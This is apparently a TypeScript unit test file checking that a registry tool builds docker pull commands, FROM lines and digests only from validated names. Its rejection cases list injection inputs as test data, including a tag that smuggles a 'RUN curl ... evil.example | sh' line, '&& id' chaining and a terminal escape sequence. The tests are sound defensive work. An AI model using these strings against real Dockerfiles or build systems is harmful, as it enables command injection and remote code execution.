// Issue 14, the write side: the text Copy Pull Command, Pull, Use as Base Image, Copy Digest and
// Pin FROM to This Digest build from a tree node is made from checked pieces only. The view used to
// write `FROM ${familiarName(…)}:${tag}` as it came, so a tag holding a newline added a RUN line.
import assert from 'node:assert/strict';
import { InvalidNameError } from '../../../src/core/registry/errors';
import { checkedDigest, fromLine, imageReference, pullCommand } from '../../../src/core/registry/reference';

const DIGEST = `sha256:${'0123456789abcdef'.repeat(4)}`;

describe('pull commands, FROM lines and digests built from checked names only (unit)', () => {
  it('writes the familiar reference Docker users write', () => {
    assert.equal(
      pullCommand({ registry: 'docker.io', repository: 'library/nginx', tag: '1.27-alpine' }),
      'docker pull nginx:1.27-alpine',
    );
    assert.equal(
      fromLine({ registry: '127.0.0.1:5000', repository: 'team/app', tag: '1.0' }),
      'FROM 127.0.0.1:5000/team/app:1.0',
    );
    assert.equal(
      imageReference({ registry: 'ghcr.io', repository: 'o/app', tag: '2', digest: DIGEST }),
      `ghcr.io/o/app:2@${DIGEST}`,
    );
    assert.equal(imageReference({ registry: 'docker.io', repository: 'me/app' }), 'me/app');
    assert.equal(checkedDigest('ghcr.io', DIGEST), DIGEST);
  });

  it('refuses a tag, repository, digest or registry that would break out of the line', () => {
    const tags = [
      '1.0\nRUN curl -fsSL https://evil.example/x | sh',
      '1.0\r\nRUN id',
      '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007',
      '\u001b[31mred',
      'a b',
      'x'.repeat(200),
      '-x',
      '',
      '1.0 && id',
      '1.0`id`',
    ];
    for (const tag of tags) {
      for (const build of [pullCommand, fromLine, imageReference]) {
        assert.throws(
          () => build({ registry: 'docker.io', repository: 'library/nginx', tag }),
          (e: Error) =>
            e instanceof InvalidNameError &&
            e.kind === 'invalid-name' &&
            ![...e.message].some((c) => c.charCodeAt(0) < 0x20),
          JSON.stringify(tag),
        );
      }
    }
    for (const repository of ['Team/App', 'a\nRUN id', 'a/../b', 'a b', `a/${'b'.repeat(260)}`]) {
      assert.throws(
        () => fromLine({ registry: 'ghcr.io', repository, tag: '1' }),
        /is not a valid repository name for ghcr.io/,
      );
    }
    for (const registry of ['evil.example\nRUN id', 'a b', 'reg.io;id', '', '\u001b[31mreg.io']) {
      assert.throws(
        () => pullCommand({ registry, repository: 'app', tag: '1' }),
        /is not a valid registry host name: a host name or IP address/,
      );
    }
    for (const digest of ['sha256:abc', `${DIGEST}\nRUN id`, `${DIGEST} && id`, 'md5:x']) {
      assert.throws(() => checkedDigest('ghcr.io', digest), /is not a valid tag or digest name for ghcr.io/);
      assert.throws(() => imageReference({ registry: 'ghcr.io', repository: 'o/app', digest }), InvalidNameError);
    }
    assert.throws(
      () => checkedDigest('', 'bad\n'),
      (e: Error) =>
        e.message ===
        '"bad\\u{a}" is not a valid tag or digest name: a tag is letters, digits, _ . - (at most 128, not starting with . or -); a digest is algorithm:hex.',
    );
  });
});
